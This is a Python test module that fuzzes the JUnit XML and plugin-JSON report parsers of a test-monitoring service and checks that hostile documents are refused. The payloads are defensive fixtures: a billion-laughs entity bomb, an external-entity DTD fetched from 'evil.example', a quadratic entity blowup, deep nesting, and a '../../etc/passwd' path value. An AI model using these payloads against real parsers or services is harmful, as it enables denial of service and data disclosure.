"""Property-based fuzzing of the report parsers (JUnit XML and the CARS pytest plugin's JSON).

Whatever the bytes, `parse_report` returns a `RunReported` or raises `ReportError` (an
`actors.errors.Rejected`: dead-lettered, never retried) with a reason; nothing else escapes. Hostile
documents (entity expansion, external entities, deep nesting, huge files) are refused within limits.
"""

from __future__ import annotations

import json
from typing import Any
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from actors.errors import Rejected
from actors.monitor.ingest import PLUGIN_FORMAT, PLUGIN_VERSION, parse_report
from actors.monitor.junit import ReportError, parse_junit
from contracts.runs import RunReported
from contracts.values import Outcome
from tests.unit.strategies import json_values

FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def parsed_or_rejected(data: bytes, **kwargs: Any) -> RunReported | ReportError:
    """The parser's answer: a run, or the ReportError it raised (any other exception fails the test)."""
    try:
        return parse_report(data, project="shop", run_id="r1", **kwargs)
    except ReportError as exc:
        assert isinstance(exc, Rejected)
        assert str(exc).strip(), "a rejection must say why"
        return exc


# ---- arbitrary bytes


@FUZZ
@given(st.binary(max_size=2000))
def test_any_bytes_are_a_run_or_a_report_error(data: bytes) -> None:
    parsed_or_rejected(data)


@FUZZ
@given(st.sampled_from([b"<", b"{", b"\xef\xbb\xbf<", b" \n{"]), st.binary(max_size=2000))
def test_any_bytes_after_a_format_marker_are_a_run_or_a_report_error(start: bytes, rest: bytes) -> None:
    parsed_or_rejected(start + rest)


# ---- JUnit-shaped XML

# Names the parser looks at, and some it does not.
element_names = st.sampled_from(
    ["testsuites", "testsuite", "testcase", "failure", "error", "skipped", "system-out", "properties",
     "property", "x", "ns:testcase"]
)
attribute_names = st.sampled_from(
    ["name", "classname", "file", "time", "tests", "failures", "message", "type", "line", "timestamp"]
)
attribute_values = st.one_of(
    st.text(max_size=40),
    st.sampled_from(["", "0", "-1", "1e309", "nan", "inf", "1.5", "tests/test_a.py", "../../etc/passwd",
                     "a::b", "9" * 400]),
    st.floats().map(str),
)


def _xml_text(text: str) -> str:
    # Characters XML 1.0 cannot carry at all are not what this test is about (the byte-level fuzzing
    # above covers them); keep the rest, escaped.
    return escape("".join(c for c in text if c in "\t\n\r" or (" " <= c <= "\ud7ff") or ("\ue000" <= c <= "\ufffd")))


@st.composite
def elements(draw: st.DrawFn, depth: int = 0) -> str:
    name = draw(element_names)
    attrs = draw(st.dictionaries(attribute_names, attribute_values, max_size=4))
    rendered = "".join(f" {k}={quoteattr(_xml_text(v))}" for k, v in attrs.items())
    children = draw(st.lists(elements(depth + 1), max_size=3)) if depth < 3 else []
    text = _xml_text(draw(st.text(max_size=30)))
    if name.startswith("ns:"):
        rendered += ' xmlns:ns="urn:x"'
    return f"<{name}{rendered}>{text}{''.join(children)}</{name}>"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(["testsuites", "testsuite"]), st.lists(elements(), max_size=4))
def test_any_junit_shaped_document_is_a_run_or_a_report_error(root: str, children: list[str]) -> None:
    document = f'<?xml version="1.0" encoding="utf-8"?><{root} name="s">{"".join(children)}</{root}>'
    answer = parsed_or_rejected(document.encode())
    if isinstance(answer, RunReported):
        # Every accepted result is within the contract (it was built through it), and has an id
        assert all(r.test_id for r in answer.results)


# ---- CARS plugin JSON


result_like = st.fixed_dictionaries(
    {},
    optional={
        "test_id": st.one_of(st.text(max_size=30), json_values, st.just("x" * 5000)),
        "outcome": st.one_of(st.sampled_from([o.value for o in Outcome]), json_values),
        "duration_s": st.one_of(st.floats(), st.integers(), json_values),
        "evidence": st.one_of(
            json_values,
            st.fixed_dictionaries({}, optional={
                "exception_type": st.one_of(st.text(max_size=20), json_values),
                "message": st.one_of(st.text(max_size=50), st.just("m" * 100_000)),
                "traceback": st.one_of(st.text(max_size=50), st.just("t" * 100_000), json_values),
                "line": st.one_of(st.integers(), json_values),
                "compared": st.one_of(json_values, st.fixed_dictionaries(
                    {}, optional={"left": st.text(max_size=10), "right": json_values, "op": json_values})),
                "fixtures_available": st.one_of(st.lists(st.text(max_size=10), max_size=3), json_values),
            }),
        ),
    },
)


@FUZZ
@given(
    st.fixed_dictionaries(
        {"format": st.one_of(st.just(PLUGIN_FORMAT), json_values),
         "version": st.one_of(st.just(PLUGIN_VERSION), json_values)},
        optional={
            "collected": st.one_of(st.integers(min_value=-3), json_values),
            "results": st.one_of(st.lists(st.one_of(result_like, json_values), max_size=5), json_values),
        },
    )
)
def test_any_plugin_payload_is_a_run_or_a_report_error(doc: dict[str, Any]) -> None:
    answer = parsed_or_rejected(json.dumps(doc).encode())
    if isinstance(answer, RunReported):
        assert doc["format"] == PLUGIN_FORMAT and doc["version"] == PLUGIN_VERSION
        assert len(answer.results) == len(doc.get("results") or [])


@FUZZ
@given(result_like)
def test_a_well_framed_payload_with_any_result_names_the_path_of_what_it_refuses(result: dict[str, Any]) -> None:
    doc = {"format": PLUGIN_FORMAT, "version": PLUGIN_VERSION, "collected": 1, "results": [result]}
    answer = parsed_or_rejected(json.dumps(doc).encode())
    if isinstance(answer, ReportError):
        assert "$.results[0]" in str(answer)


# ---- hostile documents, refused within limits


def billion_laughs(levels: int = 10) -> bytes:
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels)
    )
    return f'<?xml version="1.0"?><!DOCTYPE t [{entities}]><testsuite name="x">&l{levels - 1};</testsuite>'.encode()


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        pytest.param(billion_laughs(), "refused unsafe XML", id="billion-laughs-10-levels"),
        pytest.param(
            b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'
            b'<testsuite name="x"/>', "refused unsafe XML", id="external-parameter-entity",
        ),
        pytest.param(  # quadratic blowup: one big entity referenced many times
            b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "' + b"a" * 50_000 + b'">]><testsuite name="x">'
            + b"&a;" * 20_000 + b"</testsuite>", "refused unsafe XML", id="quadratic-blowup",
        ),
        pytest.param(  # deep nesting of elements the parser does not walk (inside a failure)
            b'<testsuite name="x"><testcase name="a" classname="b"><failure>' + b"<a>" * 50_000
            + b"</a>" * 50_000 + b"</failure></testcase></testsuite>", None, id="deep-nesting-in-a-failure",
        ),
        pytest.param(  # JSON nested deeper than the interpreter's recursion limit
            b'{"format": "cars-pytest", "version": 1, "results": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
            None, id="deep-json",
        ),
    ],
)
def test_hostile_documents_are_refused_or_read_within_limits(data: bytes, reason: str | None) -> None:
    # When a hostile document is parsed
    answer = parsed_or_rejected(data)

    # Then it is refused before anything expands or is fetched (or, for nesting, read without
    # exhausting the stack, or refused with a reason: `parsed_or_rejected` fails on anything else)
    if reason is not None:
        assert isinstance(answer, ReportError) and reason in str(answer)


def test_a_huge_plugin_report_is_refused_by_size_before_it_is_read() -> None:
    # Given a plugin report one byte over a 1 MiB limit
    data = json.dumps({"format": PLUGIN_FORMAT, "version": PLUGIN_VERSION, "results": []}).encode()
    data = data[:-1] + b" " * (1024 * 1024 - len(data) + 1) + b"}"
    # When it is parsed, JUnit or not, it is refused for its size
    for report in (data, b"<testsuite>" + b" " * (1024 * 1024) + b"</testsuite>"):
        with pytest.raises(ReportError) as raised:
            parse_report(report, project="shop", run_id="r1", max_bytes=1024 * 1024)
        assert "the limit is 1048576" in str(raised.value)
    with pytest.raises(ReportError, match="the limit is 10"):
        parse_junit(b"<testsuite name='a'/>", project="shop", run_id="r1", max_bytes=10)
